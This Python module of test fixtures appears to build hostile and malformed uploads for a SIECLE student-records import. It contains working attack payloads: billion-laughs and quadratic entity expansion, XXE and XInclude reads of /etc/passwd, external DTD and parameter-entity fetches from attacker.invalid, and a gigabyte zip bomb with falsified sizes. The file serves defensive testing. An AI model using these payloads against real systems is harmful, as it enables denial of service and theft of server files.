"""Malicious and broken uploads for the SIECLE import, built in memory and fast.

Shared by the reader's integration tests and the HTTP tests of the import. A zip bomb is built
without compressing its gigabyte: after a full flush, deflate compresses equal input to equal
output, so one compressed megabyte is repeated and only the CRC reads every byte.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Sequence

UAI = "0751234A"
MiB = 1 << 20
GiB = 1 << 30

XML_HEADER = (
    '<?xml version="1.0" encoding="ISO-8859-15"?>\n'
    '<BEE_ELEVES VERSION="3.1">\n'
    f"<PARAMETRES><UAJ>{UAI}</UAJ></PARAMETRES>\n"
)
ONE_STUDENT = """<DONNEES>
<ELEVES>
<ELEVE ELEVE_ID="1">
<ID_NATIONAL>123456789AA</ID_NATIONAL>
<NOM_DE_FAMILLE>ABBA</NOM_DE_FAMILLE>
<PRENOM>{first_name}</PRENOM>
<DATE_NAISS>25/02/2006</DATE_NAISS>
</ELEVE>
</ELEVES>
<STRUCTURES><STRUCTURES_ELEVE ELEVE_ID="1"><STRUCTURE>
<CODE_STRUCTURE>2NDE1</CODE_STRUCTURE><TYPE_STRUCTURE>D</TYPE_STRUCTURE>
</STRUCTURE></STRUCTURES_ELEVE></STRUCTURES>
</DONNEES>
</BEE_ELEVES>
"""


def siecle_with_doctype(doctype: str, first_name: str) -> bytes:
    """A one-student export whose prolog holds ``doctype`` and whose first name is ``first_name``."""
    return (
        '<?xml version="1.0" encoding="ISO-8859-15"?>\n'
        f"{doctype}\n"
        f'<BEE_ELEVES VERSION="3.1">\n<PARAMETRES><UAJ>{UAI}</UAJ></PARAMETRES>\n'
        + ONE_STUDENT.format(first_name=first_name)
    ).encode("iso-8859-15")


def billion_laughs() -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return siecle_with_doctype(f"<!DOCTYPE BEE_ELEVES [{''.join(entities)}]>", "&lol9;")


def quadratic_blowup(entity_size: int = 50_000, references: int = 50_000) -> bytes:
    doctype = f'<!DOCTYPE BEE_ELEVES [<!ENTITY a "{"a" * entity_size}">]>'
    return siecle_with_doctype(doctype, "&a;" * references)


def external_entity(url: str = "file:///etc/passwd") -> bytes:
    return siecle_with_doctype(f'<!DOCTYPE BEE_ELEVES [<!ENTITY xxe SYSTEM "{url}">]>', "&xxe;")


def external_dtd(url: str = "http://attacker.invalid/siecle.dtd") -> bytes:
    return siecle_with_doctype(f'<!DOCTYPE BEE_ELEVES SYSTEM "{url}">', "Camille")


def parameter_entity(url: str = "http://attacker.invalid/x.dtd") -> bytes:
    return siecle_with_doctype(f'<!DOCTYPE BEE_ELEVES [<!ENTITY % ext SYSTEM "{url}"> %ext;]>', "Camille")


def xinclude(path: str = "/etc/passwd") -> bytes:
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{path}" parse="text"/>'
    return (XML_HEADER + ONE_STUDENT.format(first_name=include)).encode("iso-8859-15")


def pdf_named_xml() -> bytes:
    return b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n" + b"0" * 2000


def oversized_xml(size: int) -> bytes:
    """A well-formed one-student export of exactly ``size`` bytes, padded with comments."""
    head = XML_HEADER.encode()
    tail = ONE_STUDENT.format(first_name="Camille").encode()
    comment = b"<!--" + b"x" * 1000 + b"-->\n"
    count, rest = divmod(size - len(head) - len(tail), len(comment))
    return head + comment * count + b" " * rest + tail


def zip_of(entries: Sequence[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def empty_zip() -> bytes:
    return zip_of([])


def deflate_bomb_zip(
    inflated_size: int = GiB,
    *,
    prefix: bytes = XML_HEADER.encode(),
    filler: bytes = b" ",
    names: Sequence[str] = ("ElevesSansAdresses.xml",),
    declared_size: int | None = None,
) -> bytes:
    """A valid zip whose one member inflates to ``inflated_size`` bytes: ``prefix`` then ``filler``.

    ``declared_size`` makes the headers lie about the inflated size. With several ``names``, every
    central directory entry points at the same compressed data (overlapping entries).
    """
    block = filler * (MiB // len(filler))
    blocks, remainder = divmod(inflated_size - len(prefix), len(block))
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    piece = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    assert compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH) == piece
    tail = compressor.compress(block[:remainder]) + compressor.flush()
    crc = zlib.crc32(prefix)
    for _ in range(blocks):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(block[:remainder], crc)
    data = head + piece * blocks + tail
    return _raw_zip(names, data, crc, declared_size if declared_size is not None else inflated_size)


def _raw_zip(names: Sequence[str], data: bytes, crc: int, size: int) -> bytes:
    first = names[0].encode()
    local = struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(data), size, len(first), 0)
    directory = b"".join(
        struct.pack(
            "<4s6H3L5H2L",
            b"PK\x01\x02",
            20,
            20,
            0,
            8,
            0,
            0x21,
            crc,
            len(data),
            size,
            len(name.encode()),
            0,
            0,
            0,
            0,
            0,
            0,
        )
        + name.encode()
        for name in names
    )
    offset = len(local) + len(first) + len(data)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, len(names), len(names), len(directory), offset, 0)
    return local + first + data + directory + end


def nameless_students(count: int) -> bytes:
    """``count`` ``<ELEVE>`` in a class, sharing one INE, without names or birthdate: four errors
    each (the first has no duplicate). 300,000 of them zip into about 68 kB."""
    entry = '<ELEVE ELEVE_ID="1"><ID_NATIONAL>123456789AA</ID_NATIONAL></ELEVE>\n'
    structures = (
        '<STRUCTURES><STRUCTURES_ELEVE ELEVE_ID="1"><STRUCTURE><CODE_STRUCTURE>2NDE1</CODE_STRUCTURE>'
        "<TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE></STRUCTURES_ELEVE></STRUCTURES>\n"
    )
    body = f"<DONNEES>\n<ELEVES>\n{entry * count}</ELEVES>\n{structures}</DONNEES>\n</BEE_ELEVES>\n"
    return (XML_HEADER + body).encode("iso-8859-15")


def one_student_and_skipped(skipped: int) -> bytes:
    """One valid student, then ``skipped`` entries without a class (``NO_DIVISION``)."""
    entry = '<ELEVE ELEVE_ID="2"><ID_NATIONAL>123456789BB</ID_NATIONAL><PRENOM>X</PRENOM></ELEVE>\n'
    body = ONE_STUDENT.format(first_name="Camille").replace("</ELEVES>", entry * skipped + "</ELEVES>")
    return (XML_HEADER + body).encode("iso-8859-15")


def one_student_in_many_classes(groups: int, per_group: int, distinct: int = 1) -> bytes:
    """One student, then ``groups`` ``<STRUCTURES_ELEVE>`` of hers, each with ``per_group`` classes
    cycling through ``distinct`` codes (``2NDE1``…). 7,000 groups of 300 zip into about 0.7 MB."""
    structure = (
        "<STRUCTURE><CODE_STRUCTURE>2NDE{}</CODE_STRUCTURE><TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE>"
    )
    group = (
        '<STRUCTURES_ELEVE ELEVE_ID="1">'
        + "".join(structure.format(1 + k % distinct) for k in range(per_group))
        + "</STRUCTURES_ELEVE>\n"
    )
    body = ONE_STUDENT.format(first_name="Camille").replace("</STRUCTURES>", group * groups + "</STRUCTURES>")
    return (XML_HEADER + body).encode("iso-8859-15")


def structures_of_nobody(count: int) -> bytes:
    """One student, then ``count`` ``<STRUCTURES_ELEVE>`` of ids no ``<ELEVE>`` has."""
    group = (
        '<STRUCTURES_ELEVE ELEVE_ID="x{}"><STRUCTURE><CODE_STRUCTURE>2NDE1</CODE_STRUCTURE>'
        "<TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE></STRUCTURES_ELEVE>\n"
    )
    groups = "".join(group.format(n) for n in range(count))
    body = ONE_STUDENT.format(first_name="Camille").replace("</STRUCTURES>", groups + "</STRUCTURES>")
    return (XML_HEADER + body).encode("iso-8859-15")


def long_named_students(count: int, length: int, *, in_a_class: bool) -> bytes:
    """One valid student, then ``count`` students whose names are ``length`` letters long: without
    a birth date (an error each) when ``in_a_class``, else without a class (skipped)."""
    name = "A" * length
    entry = (
        '<ELEVE ELEVE_ID="{n}"><ID_NATIONAL>{n:09d}ZZ</ID_NATIONAL>'
        f"<NOM_DE_FAMILLE>{name}</NOM_DE_FAMILLE><PRENOM>{name}</PRENOM></ELEVE>\n"
    )
    group = (
        '<STRUCTURES_ELEVE ELEVE_ID="{n}"><STRUCTURE><CODE_STRUCTURE>2NDE1</CODE_STRUCTURE>'
        "<TYPE_STRUCTURE>D</TYPE_STRUCTURE></STRUCTURE></STRUCTURES_ELEVE>\n"
    )
    entries = "".join(entry.format(n=n) for n in range(2, count + 2))
    groups = "".join(group.format(n=n) for n in range(2, count + 2)) if in_a_class else ""
    body = ONE_STUDENT.format(first_name="Camille").replace("</ELEVES>", entries + "</ELEVES>")
    body = body.replace("</STRUCTURES>", groups + "</STRUCTURES>")
    return (XML_HEADER + body).encode("iso-8859-15")
